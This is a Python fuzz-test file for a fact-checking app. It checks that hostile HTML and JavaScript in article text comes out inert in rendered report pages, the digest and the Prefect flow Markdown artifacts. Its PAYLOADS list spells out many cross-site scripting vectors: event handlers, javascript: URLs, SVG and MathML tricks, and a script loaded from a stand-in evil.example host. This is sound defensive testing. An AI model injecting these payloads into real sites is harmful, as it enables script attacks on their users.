"""Fuzz: generated hostile HTML and JavaScript in article text never survives as markup.

Hypothesis builds payloads (script tags, event handlers, ``javascript:`` and
``data:`` URLs, SVG and MathML tricks, broken and unclosed tags, quotes that
break attributes, template syntax, bidi and full-width look-alikes) and hides
them in an article's headline and claim sentences. Each article goes through
loading (as plain text and as HTML), extraction, the database and the report
renderer; the Markdown of the flow artifacts is rendered the most permissive way
(raw HTML allowed). Every output is parsed with ``html.parser`` and must hold no
element, attribute or URL scheme that a benign article's page does not.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from sqlmodel import Session

from claims.db import open_engine
from claims.errors import SourceError
from claims.extract import extract_claims
from claims.redact import markdown_text
from claims.report import render_article, render_index
from claims.sources import from_bytes, text_article
from claims.store import save_article

PAYLOADS = [
    "<script>alert({n})</script>",
    "<ScRiPt >alert({n})</sCrIpT>",
    "<scr<script>ipt>alert({n})</script>",
    "<script src=//evil.example/{n}.js></script>",
    "</script><script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<img src=x onerror=alert({n})//",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    '<a href="javascript:alert({n})">read</a>',
    "<a href=javascript:alert({n})>read",
    '<a href=" &#106;avascript:alert({n})">x</a>',
    '"><script>alert({n})</script>',
    "'><img src=x onerror=alert({n})>",
    '" onmouseover="alert({n})" x="',
    "' onfocus='alert({n})' autofocus '",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "<!--<script>alert({n})</script>-->",
    "<!-- unclosed comment {n}",
    "<![CDATA[<script>alert({n})</script>]]>",
    '<iframe src="javascript:alert({n})"></iframe>',
    '<iframe srcdoc="<script>alert({n})</script>">',
    "<body onload=alert({n})>",
    '<div style="background:url(javascript:alert({n}))">',
    "<details open ontoggle=alert({n})>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    '<object data="javascript:alert({n})">',
    '<base href="javascript:alert({n})//">',
    '<form action="javascript:alert({n})"><button>go</button></form>',
    "<input autofocus onfocus=alert({n})>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert({n})">',
    "<link rel=stylesheet href=javascript:alert({n})>",
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "{{{{ 7*7 }}}} {{% raw %}} ${{alert({n})}}",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "\u202e<script>alert({n})</script>\u202c",
    "<scr\u200bipt>alert({n})</script>",
    "<p",
    "<",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "[click](javascript:alert({n})) ![x](x onerror=alert({n}))",
    "`code` | table | break |",
]
NOISE = st.text(alphabet="<>/\"'=;:&#`()[]{}! abcxyz\u00a0\u200b\u202e\uff1c", max_size=12)


@st.composite
def payloads(draw: st.DrawFn) -> str:
    template = draw(st.sampled_from(PAYLOADS))
    return draw(NOISE) + template.format(n=draw(st.integers(0, 999))) + draw(NOISE)


@st.composite
def hostile_articles(draw: st.DrawFn) -> str:
    """An article whose headline and claim sentences carry payloads."""
    title = f"Council {draw(payloads())} budget vote"
    sentences = [
        "The council spent 42 million dollars on roads in 2023, the mayor said.",
        "Unemployment fell to 4.1 percent in March, the statistics office said.",
        'Mayor Ann Lee said: "We cut waiting times by 30 percent since 2019."',
        "About 12,000 people used the new ferry last year, up 8 percent.",
    ]
    for _ in range(draw(st.integers(1, 3))):
        index = draw(st.integers(0, len(sentences) - 1))
        words = sentences[index].split(" ")
        at = draw(st.integers(0, len(words)))
        sentences[index] = " ".join([*words[:at], draw(payloads()), *words[at:]])
    return title + "\n\n" + " ".join(sentences) + "\n"


class Tags(HTMLParser):
    """Every start tag with its attributes, and the text of each script element."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[dict[str, str], str]] = []
        self._in_script: dict[str, str] | None = None
        self._script_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k: v or "" for k, v in attrs}
        self.tags.append((tag, values))
        if tag == "script":
            self._in_script, self._script_text = values, []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._in_script is not None:
            self.scripts.append((self._in_script, "".join(self._script_text)))
            self._in_script = None

    def handle_data(self, data: str) -> None:
        if self._in_script is not None:
            self._script_text.append(data)


def tags_of(html: str) -> Tags:
    parser = Tags()
    parser.feed(html)
    parser.close()
    return parser


BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "srcdoc", "xlink:href", "background"}


def assert_inert(html: str, allowed_tags: set[str], allowed_attrs: set[str], our_scripts: set[str]) -> None:
    """No markup beyond what a benign page has: tags, attribute names, URL schemes, scripts."""
    tree = tags_of(html)
    used = {tag for tag, _ in tree.tags}
    assert used <= allowed_tags, used - allowed_tags
    for tag, attrs in tree.tags:
        names = set(attrs)
        assert names <= allowed_attrs, (tag, names - allowed_attrs)
        assert not any(name.startswith("on") for name in names), (tag, attrs)
        for name in names & URL_ATTRIBUTES:
            value = "".join(attrs[name].split()).lower()
            assert not value.startswith(BAD_SCHEMES), (tag, name, attrs[name])
    for attrs, body in tree.scripts:
        if attrs.get("type") == "application/ld+json":
            json.loads(body)  # data, and whole: nothing closed the element early
            assert "</" not in body.lower() and "<script" not in body.lower()
        else:
            assert attrs == {} and body in our_scripts, body[:200]
    assert html.lower().count("<script") == len(tree.scripts)


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> tuple[set[str], set[str], set[str]]:
    """Tags, attribute names and inline scripts of a benign article's page and the index."""
    db = tmp_path_factory.mktemp("benign") / "claims.db"
    engine = open_engine(f"sqlite:///{db}")
    text = "Council budget vote\n\nThe council spent 42 million dollars on roads in 2023, the mayor said.\n"
    article = text_article("https://news.example/budget", text, url="https://news.example/budget")
    queued = save_article(engine, article, extract_claims(article.text))
    with Session(engine) as session:
        pages = [render_article(session, queued.article_id)[1], render_index(session)]
    tags: set[str] = set()
    attrs: set[str] = set()
    scripts: set[str] = set()
    for page in pages:
        tree = tags_of(page)
        tags |= {t for t, _ in tree.tags}
        attrs |= {a for _, values in tree.tags for a in values}
        scripts |= {body for values, body in tree.scripts if not values}
    return tags, attrs, scripts


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    return open_engine(f"sqlite:///{tmp_path_factory.mktemp('fuzz') / 'claims.db'}")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=hostile_articles(), as_html=st.booleans())
def test_hostile_articles_render_inert(text: str, as_html: bool, engine, benign) -> None:  # type: ignore[no-untyped-def]
    url = "https://news.example/story?id=" + str(abs(hash(text)))
    try:
        if as_html:
            body = "<html><head><title>x</title></head><body><article><p>" + text.replace("\n\n", "</p><p>") + "</p>"
            article = from_bytes(url, body.encode("utf-8"), kind="html", url=url)
        else:
            article = text_article(url, text, url=url)
    except SourceError:
        return  # trafilatura found no article in it: refused, nothing to render
    claims = extract_claims(article.text)
    queued = save_article(engine, article, claims)
    with Session(engine) as session:
        _, page = render_article(session, queued.article_id)
        index = render_index(session)
    tags, attrs, scripts = benign
    assert_inert(page, tags, attrs, scripts)
    assert_inert(index, tags, attrs, scripts)


RENDER = MarkdownIt("commonmark", {"html": True})  # the most permissive reading of our artifacts


@settings(max_examples=300, deadline=None)
@given(st.one_of(payloads(), st.text(max_size=80)))
def test_markdown_text_is_inert_however_it_is_rendered(payload: str) -> None:
    for markdown in (
        f"# {markdown_text(payload)}",
        f"| {markdown_text(payload)} | x |",
        f"- source: {markdown_text(payload)}",
    ):
        html = RENDER.render(markdown)
        tree = tags_of(html)
        assert {t for t, _ in tree.tags} <= {"h1", "p", "ul", "li"}, (payload, html)
        assert all(not attrs for _, attrs in tree.tags), (payload, html)
        assert "\n" not in markdown_text(payload)


#: What our artifacts' Markdown may hold once rendered: structure, never a link, image or raw tag.
ARTIFACT_TAGS = {
    "h1",
    "h2",
    "h3",
    "p",
    "ul",
    "li",
    "code",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "strong",
    "blockquote",
}


def assert_markdown_inert(markdown: str) -> None:
    """``markdown`` rendered with raw HTML allowed (as permissive as any UI) holds no markup of its own."""
    tree = tags_of(RENDER.render(markdown))
    assert {t for t, _ in tree.tags} <= ARTIFACT_TAGS, markdown
    assert not any(attrs for _, attrs in tree.tags), markdown


def published_artifacts(publish) -> list:  # type: ignore[no-untyped-def]
    """Run ``publish`` in a flow on the real Prefect test server; its artifacts, read back through the API."""
    from prefect import flow
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterFlowRunId
    from prefect.runtime import flow_run

    @flow(name="fuzz-artifacts")
    def run() -> str:
        publish()
        return str(flow_run.id)

    run_id = run()
    with get_client(sync_client=True) as client:
        return client.read_artifacts(artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=[run_id])))


LINK = re.compile(r"\[(?P<text>.*)\]\(file://[^()\s]*\)", re.DOTALL)


def assert_artifacts_inert(artifacts: list, kinds: set[str]) -> None:  # type: ignore[no-untyped-def]
    """Every artifact's Markdown, table cells and column names, link text and description is inert."""
    assert {a.type for a in artifacts} >= kinds
    for artifact in artifacts:
        assert_markdown_inert(artifact.description or "")
        if artifact.type == "markdown":
            # A link artifact is Markdown Prefect writes, "[text](file:///...)": its text must be inert.
            link = LINK.fullmatch(str(artifact.data))
            assert_markdown_inert(link.group("text") if link else str(artifact.data))
        elif artifact.type == "table":
            rows = json.loads(artifact.data) if isinstance(artifact.data, str) else artifact.data
            for row in rows:
                for name, value in row.items():
                    assert_markdown_inert(str(name))
                    assert_markdown_inert(str(value))


@pytest.mark.slow
@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(title=payloads(), quote=payloads(), source=payloads(), speaker=payloads())
def test_flow_artifacts_are_inert(prefect_server, title: str, quote: str, source: str, speaker: str) -> None:
    """The check-article flow's artifacts (Markdown, table, link, descriptions), published and read back."""
    from claims.extract import Claim
    from flows.check_article import CheckResult, publish_artifacts

    claim = Claim(
        quote=quote,
        start=0,
        end=len(quote),
        sentence=quote,
        text=quote,
        kind="quantity",
        score=0.9,
        reason="fuzz",
        speaker=speaker,
    )
    result = CheckResult(source, 1, "story", title, True, [claim], str(Path("/tmp/report.html")))
    artifacts = published_artifacts(lambda: publish_artifacts(result))
    assert_artifacts_inert(artifacts, {"markdown", "table"})
    (table,) = [a for a in artifacts if a.type == "table"]
    assert "Claims of " in (table.description or "")


@pytest.mark.slow
@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(title=payloads(), link=payloads(), error=payloads(), feed_title=payloads())
def test_ingest_artifacts_are_inert(prefect_server, title: str, link: str, error: str, feed_title: str) -> None:
    """The ingest-feeds flow's summary, feed and item tables, with hostile item titles, links and errors."""
    from flows.ingest_feeds import IngestSummary, ItemOutcome, publish_artifacts

    feeds = [
        {"feed": f"https://news.example/{link}", "title": feed_title, "status": 200, "items": 2, "to check": 2,
         "error": ""},
        {"feed": link, "title": "", "status": "", "items": 0, "to check": 0, "error": error},
    ]  # fmt: skip
    items = [
        ItemOutcome(feed="f", key="a", link=f"https://news.example/{link}", ok=True, title=title, created=True),
        ItemOutcome(feed="f", key="b", link=link, ok=False, title=title, error=error),
    ]
    summary = IngestSummary(feeds, items, index="/tmp/reports/index.html")
    artifacts = published_artifacts(lambda: publish_artifacts(summary))
    assert_artifacts_inert(artifacts, {"markdown", "table"})


@settings(max_examples=100, deadline=None)
@given(text=payloads(), reviewer=payloads())
def test_review_form_and_digest_markdown_are_inert(text: str, reviewer: str) -> None:
    """The Resume form's description (review-claims) and the digest's Markdown, with hostile claims and names."""
    import datetime as dt

    from claims.digest import Digest, Waiting
    from claims.models import StoredArticle, StoredClaim, Verdict
    from claims.queue import Item
    from claims.ratings import load_scale
    from flows.review_claims import describe

    article = StoredArticle(id=1, source=text, url=None, slug="s", title=text, content_hash="0" * 64, text=text)
    claim = StoredClaim(
        id=2, article_id=1, position=0, quote=text, start=0, end=1, sentence=text, text=text, kind="quantity",
        score=0.5, reason="", values={}, speaker=text, normalized=text, match_of=1,
    )  # fmt: skip
    hint = Verdict(claim_id=1, rating=text, explanation="", sources=[], reviewer=reviewer)
    assert_markdown_inert(describe(load_scale(), Item(claim, article, None, hint), error=text))
    now = dt.datetime.now(dt.UTC)
    digest = Digest(
        day=now.date(), now=now, max_age=dt.timedelta(hours=24), statuses={"pending": 1}, pending_old=1,
        leased_old=0, articles_today=1, verdicts_today=1, ratings={text: 1}, reviewers={reviewer: 1},
        oldest=[Waiting(claim_id=2, article_id=1, status="pending", quote=text, since=now)],
    )  # fmt: skip
    assert_markdown_inert(digest.markdown())
